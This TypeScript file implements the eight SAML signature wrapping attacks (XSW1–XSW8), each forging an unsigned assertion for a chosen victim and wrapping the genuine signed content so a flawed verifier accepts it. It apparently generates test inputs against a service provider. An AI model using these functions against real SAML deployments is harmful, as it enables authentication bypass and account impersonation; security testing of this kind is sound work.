import { newMessageId } from './identity-provider.ts';

/** The signature wrapping attacks that Somorovsky and others described in 2012 (“On Breaking SAML”). */
export type Wrapping = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

type Attack = (xml: string, victim: string) => string;

const assertionIn = (xml: string) => /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)?.[0] ?? '';
const signatureIn = (xml: string) => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? '';
const without = (xml: string) => xml.replace(/<ds:Signature .*?<\/ds:Signature>/gs, '');
const named = (xml: string, word: string) =>
  xml.replace(/ ID="[^"]*"/, ` ID="${newMessageId(word)}"`);

/** The attacker's assertion: unsigned, with another ID, for the victim. */
const forged = (assertion: string, victim: string) =>
  named(without(assertion), 'e').replace(/ada@example\.com/g, victim);

/** The attacker's response around the given content. */
function forgedResponse(xml: string, victim: string): string {
  const assertion = assertionIn(xml);
  return named(without(xml.replace(assertion, 'HERE')), 'er').replace(
    'HERE',
    forged(assertion, victim),
  );
}

/** The signature of the whole response, or else of its assertion. */
const rootSignature = (xml: string) =>
  signatureIn(xml.replace(assertionIn(xml), '')) || signatureIn(xml);

export const wrappings: Record<Wrapping, Attack> = {
  // A forged response whose signature holds the genuine response.
  XSW1(xml, victim) {
    const signature = rootSignature(xml);
    const genuine = without(xml);
    return forgedResponse(xml, victim).replace(
      '</saml:Issuer>',
      `</saml:Issuer>${signature.replace('</ds:Signature>', `${genuine}</ds:Signature>`)}`,
    );
  },
  // The same with the genuine response next to its signature.
  XSW2(xml, victim) {
    const signature = rootSignature(xml);
    return forgedResponse(xml, victim).replace(
      '</saml:Issuer>',
      `</saml:Issuer>${without(xml)}${signature}`,
    );
  },
  // A forged assertion before the genuine one.
  XSW3(xml, victim) {
    const assertion = assertionIn(xml);
    return xml.replace(assertion, `${forged(assertion, victim)}${assertion}`);
  },
  // A forged assertion around the genuine one.
  XSW4(xml, victim) {
    const assertion = assertionIn(xml);
    return xml.replace(
      assertion,
      forged(assertion, victim).replace('</saml:Assertion>', `${assertion}</saml:Assertion>`),
    );
  },
  // The genuine assertion changed, its original without the signature at the end.
  XSW5(xml, victim) {
    const assertion = assertionIn(xml);
    const signature = signatureIn(assertion) || signatureIn(xml);
    const changed = forged(assertion, victim).replace(
      '</saml:Issuer>',
      `</saml:Issuer>${signature}`,
    );
    return xml
      .replace(assertion, changed)
      .replace('</samlp:Response>', `${without(assertion)}</samlp:Response>`);
  },
  // The genuine assertion inside the signature of the forged one.
  XSW6(xml, victim) {
    const assertion = assertionIn(xml);
    const signature = signatureIn(assertion) || signatureIn(xml);
    const around = signature.replace('</ds:Signature>', `${without(assertion)}</ds:Signature>`);
    return xml.replace(
      assertion,
      forged(assertion, victim).replace('</saml:Issuer>', `</saml:Issuer>${around}`),
    );
  },
  // A forged assertion inside Extensions, which allow any content.
  XSW7(xml, victim) {
    const assertion = assertionIn(xml);
    const extensions = `<samlp:Extensions>${forged(assertion, victim)}</samlp:Extensions>`;
    return xml.replace('<samlp:Status>', `${extensions}<samlp:Status>`);
  },
  // The genuine assertion in an Object of the forged one's signature.
  XSW8(xml, victim) {
    const assertion = assertionIn(xml);
    const signature = signatureIn(assertion) || signatureIn(xml);
    const object = `<ds:Object>${without(assertion)}</ds:Object>`;
    const around = signature.replace('</ds:Signature>', `${object}</ds:Signature>`);
    return xml.replace(
      assertion,
      forged(assertion, victim).replace('</saml:Issuer>', `</saml:Issuer>${around}`),
    );
  },
};
